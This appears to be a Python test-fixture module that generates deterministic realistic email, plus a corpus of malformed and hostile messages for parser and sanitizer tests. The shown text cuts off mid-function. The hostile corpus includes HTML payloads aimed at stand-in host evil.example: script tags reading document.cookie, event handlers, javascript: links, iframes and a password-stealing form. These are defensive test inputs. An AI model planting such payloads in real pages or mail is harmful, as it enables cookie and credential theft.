"""Mail for tests and benchmarks: realistic, hostile and huge, all deterministic.

``generate(n, seed=0, domain="example.com", now=None)``
    Yields ``n`` raw RFC 5322 messages (CRLF bytes) that look like a real business
    mailbox, in arrival order (dates ascend over the two years before ``now``):

    - personal mail as text/plain, text/html or multipart/alternative, with signatures;
    - newsletters: multipart/alternative with table layouts, inline styles, remote
      images, tracking pixels and List-Unsubscribe;
    - about 30% replies that form threads (Message-ID, In-Reply-To, References, "Re: "
      subject, quoted parent text), some threads several levels deep;
    - about 10% with attachments of 10-500 KB (PDF-, PNG-, JPEG- and DOCX-like
      binaries), a few with inline ``cid:`` images in multipart/related;
    - non-ASCII display names and subjects as RFC 2047 encoded words (B and Q),
      UTF-8 bodies in quoted-printable;
    - about 10-20 KB per message on average without attachments.

    The same ``(n, seed, domain, now)`` always gives the same bytes. ``now`` defaults to
    the fixed ``ANCHOR`` (not today) for that reason; pass the real time when a test
    depends on "recent" mail. Memory stays bounded: only a window of recent messages
    is kept to pick reply parents from, so 100k messages stream fine.

``hostile_corpus()``
    ``[(name, raw)]`` of malformed and hostile messages every parser, sanitizer and
    sync must survive (see ``HOSTILE_NAMES``). All are accepted by Dovecot's APPEND.

``huge_message(size_mb=20)``
    One message with a ``size_mb`` MB attachment (base64 in the message, so the raw
    bytes are about 1.37 times larger). Kept out of the corpus so it stays small.

Everything is built by hand rather than with ``email.message`` so that 100k-message
benchmarks do not wait on the generator (about 2,000 messages/s here).
"""
import base64
import binascii
import collections
import html
import random
import re
import struct
import unicodedata
import urllib.parse
import zlib
from datetime import UTC, datetime, timedelta, timezone
from email.header import Header
from email.utils import format_datetime, formataddr

ANCHOR = datetime(2026, 11, 1, 12, 0, tzinfo=UTC)
SPAN = timedelta(days=730)
REPLY_RATIO = 0.30
ATTACHMENT_RATIO = 0.12  # of non-newsletter mail: about 10% of all messages
INLINE_IMAGE_RATIO = 0.02
QUOTE_LIMIT = 8000  # characters of a parent a reply quotes (whole threads get long)
NEWSLETTER_RATIO = 0.22
THREAD_WINDOW = 300  # recent messages a reply may answer: bounds memory
CRLF = "\r\n"

# -- vocabulary ---------------------------------------------------------------------

FIRST_NAMES = ["Anna", "Ben", "Clara", "David", "Emma", "Frank", "Grace", "Henry", "Irene", "Jack", "Karen",
               "Leo", "Maria", "Nina", "Oscar", "Paula", "Quentin", "Rita", "Sam", "Tina", "Victor", "Wendy"]
LAST_NAMES = ["Adams", "Baker", "Carter", "Dawson", "Evans", "Fisher", "Grant", "Harris", "Irving", "Jensen",
              "Keller", "Lopez", "Morgan", "Nolan", "Owens", "Parker", "Reed", "Shaw", "Turner", "Walsh"]
# Names that need RFC 2047: Latin-1 ones are sometimes Q-encoded as ISO-8859-1.
INTL_NAMES = ["Jörg Müller", "François Dupont", "José Álvarez", "Zoë Brontë", "Søren Østergaard",
              "Łukasz Wiśniewski", "Çağrı Yılmaz", "Иван Петров", "Αλέξης Παπαδόπουλος", "山田 太郎",
              "Nguyễn Văn An", "Ana Lúcia Gonçalves", "Dvořák Antonín", "Åsa Lindström", "Renée Lefèvre"]
EXTERNAL_DOMAINS = ["example.org", "example.net", "partner.example", "client.example", "supplier.example"]
NEWSLETTER_SENDERS = [("Weekly Digest", "news.example.net"), ("Product Updates", "updates.example.org"),
                      ("Événements Paris", "events.example.net"), ("Tech Briefing", "brief.example.org")]
WORDS = ("the project team meeting agenda budget forecast quarter review contract proposal invoice delivery "
         "schedule update report customer supplier order shipment deadline milestone feedback draft "
         "version approval request please attached find below regarding follow next week tomorrow "
         "monday friday office call discuss numbers sales marketing plan strategy risk issue resolved "
         "pending confirm availability thanks regards best kind note important urgent minor change "
         "scope timeline estimate cost price discount renewal license support ticket server release "
         "test migration data backup access account password policy training workshop travel hotel "
         "flight expense claim receipt payment terms conditions signed copy legal compliance audit "
         "warehouse stock inventory product launch campaign website content design mockup slides").split()
INTL_WORDS = ["Grüße", "Besprechung", "réunion", "déjà", "Ångström", "naïve", "façade", "Übersicht",
              "crème brûlée", "smörgåsbord", "São Paulo", "Zürich", "Köln", "Málaga", "Kraków", "€ 1.250,00"]
SUBJECTS = ["Q{q} budget review", "Contract renewal for {w}", "Meeting notes: {w} {w}", "Invoice #{num}",
            "Re-scheduling our {w} call", "Draft {w} proposal v{v}", "Question about the {w} {w}",
            "Shipment {num} delayed", "Action items from {w}", "Your {w} request", "Weekly {w} report",
            "Follow-up: {w} and {w}", "Access to the {w} server", "Travel plans for {w}", "Lunch on {day}?"]
INTL_SUBJECTS = ["Besprechung am {day} – Übersicht", "Réunion de suivi : {w}", "Grüße aus Köln",
                 "Offre spéciale déjà validée", "Презентация проекта {num}", "会議の議事録 {num}",
                 "Äpfel, Birnen & {w}", "Ελάχιστη τιμή {num} €", "Résumé – {w} ✔"]
DAYS = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday"]
TIMEZONES = [UTC, timezone(timedelta(hours=1)), timezone(timedelta(hours=2)),
             timezone(timedelta(hours=-5)), timezone(timedelta(hours=-8)), timezone(timedelta(hours=5, minutes=30)),
             timezone(timedelta(hours=9))]
MAILERS = ["Microsoft Outlook 16.0", "Apple Mail (2.3731)", "Mozilla Thunderbird 115.4", "Roundcube Webmail/1.6",
           "Odoo"]
ATTACHMENT_KINDS = [  # (extension, content type, magic-prefixed generator name)
    ("pdf", "application/pdf", "_pdf_like"),
    ("png", "image/png", "_png"),
    ("jpg", "image/jpeg", "_jpeg_like"),
    ("docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "_zip_like"),
    ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "_zip_like"),
]
Person = collections.namedtuple("Person", "name addr")
_Sent = collections.namedtuple("_Sent", "message_id references subject sender recipient text date")


# -- encoding helpers ---------------------------------------------------------------

def _b64_lines(data):
    """Base64 in 76-column CRLF lines, as MIME wants it."""
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


def _qp(text):
    """Quoted-printable UTF-8 with CRLF line ends (binascii is C-fast).

    binascii ends soft line breaks with a bare LF unless the text starts with a CRLF
    line, and one-line HTML has none; servers rewrite bare LFs, so normalise here.
    """
    return binascii.b2a_qp(text.encode("utf-8"), istext=True).replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def _address(person, rng):
    """``Name <addr>``, the name RFC 2047-encoded when it is not ASCII."""
    if person.name.isascii():
        return formataddr(person)
    charset = "utf-8"
    try:
        person.name.encode("iso-8859-1")
        if rng.random() < 0.5:
            charset = "iso-8859-1"  # gives Q encoding, as many European clients send
    except UnicodeEncodeError:
        pass
    return formataddr(person, charset=charset)


def _subject_header(subject):
    if subject.isascii():
        return subject
    return Header(subject, "utf-8", header_name="Subject").encode()


def _part(content_type, body, encoding, extra=()):
    head = [f"Content-Type: {content_type}", f"Content-Transfer-Encoding: {encoding}", *extra]
    return (CRLF.join(head) + CRLF + CRLF).encode() + body


def _multipart(subtype, parts, boundary):
    out = [f"Content-Type: multipart/{subtype};{CRLF} boundary=\"{boundary}\"{CRLF}{CRLF}".encode()]
    for part in parts:
        out.append(f"--{boundary}{CRLF}".encode())
        out.append(part)
        out.append(CRLF.encode())
    out.append(f"--{boundary}--{CRLF}".encode())
    return b"".join(out)


def _text_body(text):
    if text.isascii():
        return _part("text/plain; charset=\"us-ascii\"", text.encode(), "7bit")
    return _part("text/plain; charset=\"utf-8\"", _qp(text), "quoted-printable")


def _html_body(markup):
    return _part("text/html; charset=\"utf-8\"", _qp(markup), "quoted-printable")


# -- binary payloads ----------------------------------------------------------------

def _pdf_like(rng, size):
    head = (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
            b"3 0 obj\n<< /Length " + str(size).encode() + b" /Filter /FlateDecode >>\nstream\n")
    return head + rng.randbytes(size) + b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def _png(rng, size):
    """A valid PNG of random pixels, about ``size`` bytes (noise does not compress)."""
    side = max(8, int((size / 3) ** 0.5))
    raw = b"".join(b"\x00" + rng.randbytes(side * 3) for _ in range(side))

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw, 1)) + chunk(b"IEND", b""))


def _jpeg_like(rng, size):
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + rng.randbytes(size) + b"\xff\xd9"


def _zip_like(rng, size):
    return b"PK\x03\x04\x14\x00\x06\x00\x08\x00" + b"[Content_Types].xml" + rng.randbytes(size) + b"PK\x05\x06"


_BINARY = {"_pdf_like": _pdf_like, "_png": _png, "_jpeg_like": _jpeg_like, "_zip_like": _zip_like}


def _attachment(rng, index):
    ext, ctype, maker = rng.choice(ATTACHMENT_KINDS)
    size = int(10_000 * 50 ** rng.random())  # log-uniform 10 KB .. 500 KB
    stem = rng.choice(["Invoice", "Report", "Scan", "Angebot", "Présentation", "Contract", "Photo", "Budget"])
    filename = f"{stem}_{index}.{ext}"
    if filename.isascii():
        disposition = f"attachment;{CRLF} filename=\"{filename}\""
    else:  # RFC 2231, what current clients send for non-ASCII file names
        disposition = f"attachment;{CRLF} filename*=utf-8''{urllib.parse.quote(filename, safe='._-')}"
    return _part(f"{ctype}; name=\"{filename}\"" if filename.isascii() else ctype,
                 _b64_lines(_BINARY[maker](rng, size)), "base64", [f"Content-Disposition: {disposition}"])


# -- text ---------------------------------------------------------------------------

def _sentence(rng, intl=False):
    words = [rng.choice(WORDS) for _ in range(rng.randint(6, 18))]
    if intl and rng.random() < 0.5:
        words.insert(rng.randrange(len(words)), rng.choice(INTL_WORDS))
    return " ".join(words).capitalize() + rng.choice([".", ".", ".", "?", "!"])


def _paragraphs(rng, count, intl=False):
    return [" ".join(_sentence(rng, intl) for _ in range(rng.randint(2, 6))) for _ in range(count)]


def _wrap(paragraph, width=72):
    lines, line = [], ""
    for word in paragraph.split():
        if line and len(line) + 1 + len(word) > width:
            lines.append(line)
            line = word
        else:
            line = f"{line} {word}" if line else word
    lines.append(line)
    return CRLF.join(lines)


def _subject(rng):
    template = rng.choice(INTL_SUBJECTS if rng.random() < 0.25 else SUBJECTS)
    return template.format(w=rng.choice(WORDS), q=rng.randint(1, 4), num=rng.randint(1000, 99999),
                           v=rng.randint(1, 9), day=rng.choice(DAYS))


DISCLAIMER = (
    "CONFIDENTIALITY NOTICE: This e-mail and any attachments are confidential and may be legally privileged. "
    "If you are not the intended recipient, please notify the sender immediately and delete this message. "
    "Any unauthorised copying, disclosure or distribution of the material in this e-mail is prohibited. "
    "The company accepts no liability for any damage caused by any virus transmitted by this e-mail."
)


def _signature(person, domain):
    company = domain.split(".")[0].title()
    lines = ["--", person.name, f"{company} Ltd.", "+1 555 0100"]
    if len(person.name) % 2:  # a stable half of the senders' companies add a disclaimer
        lines += ["", _wrap(DISCLAIMER)]
    return CRLF.join(lines)


# What Outlook puts in the <head> of every message: a large part of real HTML mail.
OUTLOOK_STYLE = (
    "<meta name=\"Generator\" content=\"Microsoft Word 15 (filtered medium)\"><style><!--"
    "/* Font Definitions */@font-face{font-family:\"Cambria Math\";panose-1:2 4 5 3 5 4 6 3 2 4;}"
    "@font-face{font-family:Calibri;panose-1:2 15 5 2 2 2 4 3 2 4;}@font-face{font-family:Aptos;}"
    "/* Style Definitions */p.MsoNormal, li.MsoNormal, div.MsoNormal{margin:0cm;font-size:11.0pt;"
    "font-family:\"Calibri\",sans-serif;mso-ligatures:standardcontextual;mso-fareast-language:EN-US;}"
    "a:link, span.MsoHyperlink{mso-style-priority:99;color:#0563C1;text-decoration:underline;}"
    "span.EmailStyle17{mso-style-type:personal-compose;font-family:\"Calibri\",sans-serif;color:windowtext;}"
    ".MsoChpDefault{mso-style-type:export-only;font-size:10.0pt;mso-ligatures:none;}"
    "@page WordSection1{size:612.0pt 792.0pt;margin:72.0pt 72.0pt 72.0pt 72.0pt;}"
    "div.WordSection1{page:WordSection1;}--></style><!--[if gte mso 9]><xml><o:shapedefaults v:ext=\"edit\" "
    "spidmax=\"1026\" /></xml><![endif]--><!--[if gte mso 9]><xml><o:shapelayout v:ext=\"edit\">"
    "<o:idmap v:ext=\"edit\" data=\"1\" /></o:shapelayout></xml><![endif]-->"
)


def _html_personal(paragraphs, person, quoted_html="", outlook=False):
    if outlook:
        body = "".join(f"<p class=\"MsoNormal\"><span lang=\"EN-US\" style=\"font-size:11.0pt;"
                       f"mso-fareast-language:EN-US\">{p}<o:p></o:p></span></p>"
                       "<p class=\"MsoNormal\"><span lang=\"EN-US\"><o:p>&nbsp;</o:p></span></p>"
                       for p in paragraphs)
        return (
            "<html xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\" "
            "xmlns:w=\"urn:schemas-microsoft-com:office:word\"><head><meta http-equiv=\"Content-Type\" "
            f"content=\"text/html; charset=utf-8\">{OUTLOOK_STYLE}</head><body lang=\"EN-US\" "
            f"link=\"#0563C1\" vlink=\"#954F72\" style=\"word-wrap:break-word\"><div class=\"WordSection1\">{body}"
            f"<p class=\"MsoNormal\"><b><span style=\"color:#1F3864\">{person.name}</span></b><o:p></o:p></p>"
            f"<p class=\"MsoNormal\"><a href=\"mailto:{person.addr}\">{person.addr}</a></p>{quoted_html}"
            "</div></body></html>"
        )
    body = "".join(f"<p style=\"margin:0 0 12px 0\">{p}</p>" for p in paragraphs)
    return (
        "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head>"
        "<body><div style=\"font-family:Calibri,Arial,sans-serif;font-size:11pt;color:#1f1f1f\">"
        f"{body}<p style=\"color:#666666;font-size:9pt\">{person.name}<br>"
        f"<a href=\"mailto:{person.addr}\">{person.addr}</a></p>{quoted_html}</div></body></html>"
    )


def _html_newsletter(rng, sender_domain, title, serial):
    articles = []
    for k in range(rng.randint(5, 12)):
        heading = " ".join(rng.choice(WORDS) for _ in range(rng.randint(3, 7))).title()
        text = " ".join(_paragraphs(rng, rng.randint(1, 3)))
        articles.append(
            "<tr><td style=\"padding:24px 32px;border-bottom:1px solid #eeeeee\">"
            f"<img src=\"https://cdn.{sender_domain}/img/{serial}/story-{k}.jpg\" width=\"536\" height=\"240\" "
            f"alt=\"{heading}\" style=\"display:block;width:100%;max-width:536px;height:auto;border:0\">"
            f"<h2 style=\"font-family:Georgia,serif;font-size:22px;line-height:28px;color:#222222;"
            f"margin:16px 0 8px 0\">{heading}</h2>"
            f"<p style=\"font-family:Helvetica,Arial,sans-serif;font-size:15px;line-height:22px;color:#444444;"
            f"margin:0 0 16px 0\">{text}</p>"
            "<table role=\"presentation\" cellpadding=\"0\" cellspacing=\"0\" border=\"0\"><tr>"
            "<td style=\"border-radius:4px;background:#0b5cad\">"
            f"<a href=\"https://click.{sender_domain}/r/{serial}/{k}?utm_source=newsletter&amp;utm_medium=email\" "
            "style=\"display:inline-block;padding:10px 18px;font-family:Helvetica,Arial,sans-serif;"
            "font-size:14px;color:#ffffff;text-decoration:none\">Read more</a></td></tr></table></td></tr>"
        )
    return (
        "<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\">"
        "<meta name=\"viewport\" content=\"width=device-width,initial-scale=1\">"
        f"<title>{title}</title><style type=\"text/css\">"
        "body{margin:0;padding:0}table,td{border-collapse:collapse}"
        "@media only screen and (max-width:600px){.wrap{width:100% !important}}</style></head>"
        "<body style=\"margin:0;padding:0;background-color:#f2f4f6\">"
        f"<div style=\"display:none;max-height:0;overflow:hidden\">{_sentence(rng)}</div>"
        "<table role=\"presentation\" width=\"100%\" cellpadding=\"0\" cellspacing=\"0\" border=\"0\" "
        "style=\"background-color:#f2f4f6\"><tr><td align=\"center\" style=\"padding:24px 0\">"
        "<table class=\"wrap\" role=\"presentation\" width=\"600\" cellpadding=\"0\" cellspacing=\"0\" "
        "border=\"0\" style=\"background-color:#ffffff;width:600px\">"
        f"<tr><td style=\"padding:24px 32px\"><img src=\"https://cdn.{sender_domain}/img/logo.png\" "
        "width=\"140\" height=\"40\" alt=\"Logo\" style=\"display:block;border:0\"></td></tr>"
        + "".join(articles) +
        "<tr><td style=\"padding:24px 32px;font-family:Helvetica,Arial,sans-serif;font-size:12px;"
        "line-height:18px;color:#888888;text-align:center\">You receive this email because you subscribed. "
        f"<a href=\"https://{sender_domain}/unsubscribe?id={serial}\" style=\"color:#888888\">Unsubscribe</a>"
        " &middot; 1 Example Street, Springfield</td></tr></table>"
        f"<img src=\"https://t.{sender_domain}/open.gif?id={serial}\" width=\"1\" height=\"1\" alt=\"\" "
        "style=\"display:block\"></td></tr></table></body></html>"
    )


def _html_to_text(paragraphs):
    return CRLF.join(_wrap(p) + CRLF for p in paragraphs)


# -- the generator ------------------------------------------------------------------

def _people(rng, domain):
    colleagues = [Person(f"{rng.choice(FIRST_NAMES)} {rng.choice(LAST_NAMES)}", "") for _ in range(12)]
    colleagues += [Person(name, "") for name in rng.sample(INTL_NAMES, 6)]
    people = []
    for i, person in enumerate(colleagues):
        host = domain if i % 3 == 0 else rng.choice(EXTERNAL_DOMAINS)
        # "Jörg Müller" -> jorg.muller; scripts without a Latin form -> user
        ascii_name = unicodedata.normalize("NFKD", person.name).encode("ascii", "ignore").decode().lower()
        local = re.sub(r"[^a-z0-9]+", ".", ascii_name).strip(".") or "user"
        people.append(Person(person.name, f"{local}{i}@{host}"))
    return people


def generate(n, seed=0, domain="example.com", now=None):
    """Yield ``n`` realistic raw messages; see the module docstring."""
    rng = random.Random(seed)
    end = now or ANCHOR
    start = end - SPAN
    me = Person("Mailbox Owner", f"owner@{domain}")
    people = _people(rng, domain)
    recent = collections.deque(maxlen=THREAD_WINDOW)
    step = SPAN / max(n, 1)
    for i in range(n):
        date = (start + step * i + timedelta(seconds=rng.uniform(0, step.total_seconds()))).astimezone(
            rng.choice(TIMEZONES)).replace(microsecond=0)
        parent = rng.choice(recent) if recent and rng.random() < REPLY_RATIO else None
        if parent:
            raw, sent = _reply(rng, i, date, parent)
        elif rng.random() < NEWSLETTER_RATIO:
            raw, sent = _newsletter(rng, i, date, me), None
        else:
            raw, sent = _personal(rng, i, date, me, people)
        if sent:
            recent.append(sent)
        yield raw


def _message_id(rng, host):
    return f"<{rng.getrandbits(64):016x}.{rng.getrandbits(32):08x}@{host}>"


def _headers(rng, date, sender, to, subject, message_id, cc=(), extra=()):
    sender_host = sender.addr.split("@", 1)[1]
    relay = rng.randint(10, 250)
    lines = [
        f"Return-Path: <{sender.addr}>",
        f"Received: from mail.{sender_host} (mail.{sender_host} [192.0.2.{relay}]){CRLF}\tby mx.maildesk.test "
        f"with ESMTPS id {rng.getrandbits(40):010x}{CRLF}\tfor <{to[0].addr}>; {format_datetime(date)}",
        f"Received: from [198.51.100.{relay}] by mail.{sender_host} with ESMTPSA;{CRLF}\t{format_datetime(date)}",
        f"From: {_address(sender, rng)}",
        "To: " + f",{CRLF} ".join(_address(p, rng) for p in to),
    ]
    if cc:
        lines.append("Cc: " + f",{CRLF} ".join(_address(p, rng) for p in cc))
    lines += [f"Subject: {_subject_header(subject)}", f"Date: {format_datetime(date)}", f"Message-ID: {message_id}",
              *extra, f"X-Mailer: {rng.choice(MAILERS)}", "MIME-Version: 1.0"]
    # The stdlib folds encoded words with a bare LF; mail on the wire uses CRLF only.
    return (CRLF.join(lines) + CRLF).replace(CRLF, "\n").replace("\n", CRLF).encode()


def _body(rng, i, paragraphs, sender, quoted_text="", quoted_html=""):
    """Body part (plain, html or alternative), maybe with attachments or inline images.

    Returns ``(bytes, plain text)``; the text is what a reply to this message quotes.
    """
    text = CRLF.join(_wrap(p) + CRLF for p in paragraphs) + CRLF + _signature(sender, sender.addr.split("@")[1])
    if quoted_text:
        text += CRLF + CRLF + quoted_text
    markup = _html_personal(paragraphs, sender, quoted_html, outlook=rng.random() < 0.5)
    roll = rng.random()
    with_files = rng.random() < ATTACHMENT_RATIO
    inline = with_files and rng.random() < INLINE_IMAGE_RATIO / ATTACHMENT_RATIO
    if inline:
        cid = f"image{i}.{rng.getrandbits(32):08x}@maildesk.test"
        image_tag = f"<p><img src=\"cid:{cid}\" width=\"320\" alt=\"chart\"></p>"
        markup = markup.replace("</div></body>", f"{image_tag}</div></body>")
        image = _part("image/png; name=\"chart.png\"", _b64_lines(_png(rng, rng.randint(10_000, 60_000))), "base64",
                      [f"Content-ID: <{cid}>", "Content-Disposition: inline; filename=\"chart.png\""])
        related = _multipart("related", [_html_body(markup), image], f"rel_{i}_{rng.getrandbits(48):012x}")
        body = _multipart("alternative", [_text_body(text), related], f"alt_{i}_{rng.getrandbits(48):012x}")
    elif roll < 0.40:
        body = _text_body(text)
    elif roll < 0.50:
        body = _html_body(markup)
    else:
        body = _multipart("alternative", [_text_body(text), _html_body(markup)], f"alt_{i}_{rng.getrandbits(48):012x}")
    if with_files and not inline:
        attachments = [_attachment(rng, i * 10 + k) for k in range(1 if rng.random() < 0.8 else rng.randint(2, 3))]
        body = _multipart("mixed", [body, *attachments], f"mix_{i}_{rng.getrandbits(48):012x}")
    if len(text) > QUOTE_LIMIT:
        text = text[:QUOTE_LIMIT].rsplit(CRLF, 1)[0]  # whole lines only
    return body, text


def _personal(rng, i, date, me, people):
    incoming = rng.random() < 0.75
    sender = rng.choice(people) if incoming else me
    to = [me] if incoming else [rng.choice(people)]
    cc = rng.sample(people, rng.randint(1, 3)) if rng.random() < 0.3 else ()
    subject = _subject(rng)
    message_id = _message_id(rng, sender.addr.split("@", 1)[1])
    intl = not sender.name.isascii() or not subject.isascii()
    paragraphs = _paragraphs(rng, rng.randint(4, 14), intl)
    head = _headers(rng, date, sender, to, subject, message_id, cc)
    body, text = _body(rng, i, paragraphs, sender)
    raw = head + body
    return raw, _Sent(message_id, (), subject, sender, to[0], text, date)


def _reply(rng, i, date, parent):
    # The other side of the conversation answers; the owner answers incoming mail.
    sender = parent.recipient
    recipient = parent.sender
    base = parent.subject[4:] if parent.subject.startswith("Re: ") else parent.subject
    subject = "Re: " + base
    message_id = _message_id(rng, sender.addr.split("@", 1)[1])
    references = (*parent.references, parent.message_id)[-12:]  # long threads trim, as clients do
    extra = [f"In-Reply-To: {parent.message_id}", "References: " + f"{CRLF} ".join(references)]
    intl = not sender.name.isascii() or not subject.isascii()
    paragraphs = _paragraphs(rng, rng.randint(1, 6), intl)
    header = f"On {format_datetime(parent.date)}, {parent.sender.name} wrote:"
    quoted_text = header + CRLF + CRLF.join("> " + line for line in parent.text.split(CRLF))
    quoted_html = (f"<div>{header}</div><blockquote style=\"margin:0 0 0 .8ex;border-left:1px solid #ccc;"
                   f"padding-left:1ex\">{html.escape(parent.text).replace(CRLF, '<br>')}</blockquote>")
    head = _headers(rng, date, sender, [recipient], subject, message_id, extra=extra)
    body, text = _body(rng, i, paragraphs, sender, quoted_text, quoted_html)
    raw = head + body
    return raw, _Sent(message_id, references, subject, sender, recipient, text, date)


def _newsletter(rng, i, date, me):
    name, host = rng.choice(NEWSLETTER_SENDERS)
    sender = Person(name, f"newsletter@{host}")
    serial = f"{i}{rng.getrandbits(24):06x}"
    title = f"{name}: {' '.join(rng.choice(WORDS) for _ in range(4)).title()}"
    markup = _html_newsletter(rng, host, title, serial)
    text = _html_to_text(_paragraphs(rng, rng.randint(5, 12))) + CRLF + f"Unsubscribe: https://{host}/u/{serial}"
    extra = [f"List-Unsubscribe: <https://{host}/unsubscribe?id={serial}>, <mailto:unsubscribe@{host}>",
             "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "Precedence: bulk",
             f"DKIM-Signature: v=1; a=rsa-sha256; d={host}; s=mail;{CRLF}\tbh="
             f"{base64.b64encode(rng.randbytes(32)).decode()};{CRLF}\tb="
             f"{base64.b64encode(rng.randbytes(128)).decode()}"]
    head = _headers(rng, date, sender, [me], title, _message_id(rng, host), extra=extra)
    body = _multipart("alternative", [_text_body(text), _html_body(markup)], f"news_{i}_{rng.getrandbits(48):012x}")
    return head + body


# -- hostile mail -------------------------------------------------------------------

_H = ("From: Sender <sender@example.org>\r\nTo: owner@example.com\r\nDate: Mon, 02 Nov 2026 10:00:00 +0000\r\n"
      "MIME-Version: 1.0\r\n")


def _hostile(name, headers, body=b""):
    """A message with the common headers, a unique Message-ID unless given, and ``body``."""
    if "message-id:" not in headers.lower() and name != "missing_message_id":
        headers += f"Message-ID: <hostile-{name}@example.org>\r\n"
    if "subject:" not in headers.lower():
        headers += f"Subject: hostile {name}\r\n"
    # A body that starts with its own Content-Type header (multipart, nested) carries its
    # header block and blank line itself: it continues the message's header block.
    separator = b"" if body.startswith(b"Content-Type:") and "content-type:" not in headers.lower() else b"\r\n"
    return name, (_H + headers).encode("latin-1") + separator + body


def _html_hostile(name, html):
    return _hostile(name, "Content-Type: text/html; charset=utf-8\r\n", html.encode())


def _nested(depth):
    body = b"Content-Type: text/plain\r\n\r\nthe bottom\r\n"
    for level in range(depth, 0, -1):
        boundary = f"nest{level}"
        body = (f"Content-Type: multipart/mixed; boundary=\"{boundary}\"\r\n\r\n--{boundary}\r\n".encode() + body
                + f"\r\n--{boundary}--\r\n".encode())
    return body


def hostile_corpus():
    """Malformed and hostile messages as ``[(name, raw bytes)]``; see ``HOSTILE_NAMES``."""
    rng = random.Random(4242)
    forwarded = (b"From: Inner <inner@example.net>\r\nTo: owner@example.com\r\nSubject: the original\r\n"
                 b"Message-ID: <inner@example.net>\r\nDate: Sun, 01 Nov 2026 09:00:00 +0000\r\n\r\n"
                 b"Forwarded body.\r\n")
    truncated = _multipart("mixed", [_text_body("see attachment\r\n"),
                                     _part("application/pdf; name=\"x.pdf\"", _b64_lines(rng.randbytes(4000)),
                                           "base64")], "cut")
    # No NUL (IMAP literals may not carry it) and no bare CR/LF (servers rewrite those
    # to CRLF), so the blob comes back from the server byte for byte.
    noise = bytes(b for b in rng.randbytes(7000) if b not in (0, 10, 13))[:6000]
    garbage = b"\r\n".join(noise[k:k + 100] for k in range(0, len(noise), 100))
    corpus = [
        _hostile("missing_message_id", "Content-Type: text/plain\r\n", b"No Message-ID here.\r\n"),
        _hostile("malformed_message_id", "Message-ID: <[abc@x]>\r\n", b"Exchange-style bracketed id.\r\n"),
        _hostile("trailing_comma_cc", "Cc: a@example.com, B <b@example.com>,\r\n", b"Cc ends in a comma.\r\n"),
        _hostile("bogus_charset", "Content-Type: text/plain; charset=\"x-bogus\"\r\n",
                 "Unknown charset, caf\u00e9.\r\n".encode("latin-1")),
        _hostile("undeclared_8bit_latin1", "", "Gr\u00fc\u00dfe aus K\u00f6ln, \u00e0 bient\u00f4t.\r\n"
                 .encode("latin-1")),
        _hostile("broken_multipart_boundary", "Content-Type: multipart/alternative; boundary=\"declared\"\r\n",
                 b"--other\r\nContent-Type: text/plain\r\n\r\nparts use another boundary\r\n--other--\r\n"),
        _hostile("truncated_message", "", truncated[: len(truncated) * 2 // 3]),
        _hostile("header_line_100kb", "X-Huge: " + "h" * 100_000 + "\r\n", b"A 100 KB header line.\r\n"),
        _html_hostile("html_script", "<html><body><p>hi</p><script>alert(document.cookie)</script>"
                      "<SCRIPT src=\"https://evil.example/x.js\"></SCRIPT></body></html>"),
        _html_hostile("html_event_handlers", "<html><body><img src=\"x\" onerror=\"alert(1)\">"
                      "<div onclick=\"steal()\" onmouseover=\"steal()\">click</div>"
                      "<body onload=\"alert(2)\"></body></html>"),
        _html_hostile("javascript_links", "<a href=\"javascript:alert(1)\">a</a>"
                      "<a href=\" JaVaScRiPt:alert(2)\">b</a><a href=\"jav&#x09;ascript:alert(3)\">c</a>"
                      "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">d</a>"),
        _html_hostile("iframe", "<p>frame:</p><iframe src=\"https://evil.example/\" width=\"1\"></iframe>"
                      "<object data=\"https://evil.example/x.swf\"></object><embed src=\"x.swf\">"),
        _html_hostile("style_remote_import", "<style>@import url(https://evil.example/track.css);"
                      "body{background:url('https://evil.example/bg.png')}</style><p>styled</p>"),
        _html_hostile("form", "<form action=\"https://evil.example/steal\" method=\"post\">"
                      "<input name=\"password\" type=\"password\"><button>Log in</button></form>"),
        _html_hostile("css_expression", "<div style=\"width: expression(alert(1)); "
                      "background-image: url(javascript:alert(2))\">old IE</div>"
                      "<p style=\"behavior:url(x.htc);-moz-binding:url(x.xml#x)\">x</p>"),
        _hostile("message_rfc822_attachment", "", _multipart("mixed", [
            _text_body("Forwarding the original.\r\n"),
            b"Content-Type: message/rfc822\r\nContent-Disposition: attachment; filename=\"original.eml\"\r\n\r\n"
            + forwarded], "fwd")),
        _hostile("deeply_nested_multipart", "", _nested(50)),
        _hostile("empty_body", "Content-Type: text/plain\r\n", b""),
        _hostile("unknown_charset_encoded_word",
                 "Subject: =?x-unknown?Q?caf=E9?= and =?utf-8?B?w7xuaWPDtmRl?= =?broken?=\r\n", b"body\r\n"),
    ]
    # Only headers: no blank line, no body (the helper would add the separator).
    corpus.append(("headers_only", (_H + "Subject: headers only\r\nMessage-ID: <hostile-headers_only@example.org>"
                                    "\r\n").encode()))
    corpus.append(("binary_garbage", garbage))
    return corpus


HOSTILE_NAMES = tuple(name for name, _raw in hostile_corpus())


def huge_message(size_mb=20, seed=0):
    """A message with one ``size_mb`` MB PDF-like attachment; built on call, not cached."""
    rng = random.Random(seed)
    payload = _pdf_like(rng, size_mb * 1024 * 1024 - 200)
    body = _multipart("mixed", [
        _text_body("The full archive is attached.\r\n"),
        _part("application/pdf; name=\"archive.pdf\"", _b64_lines(payload), "base64",
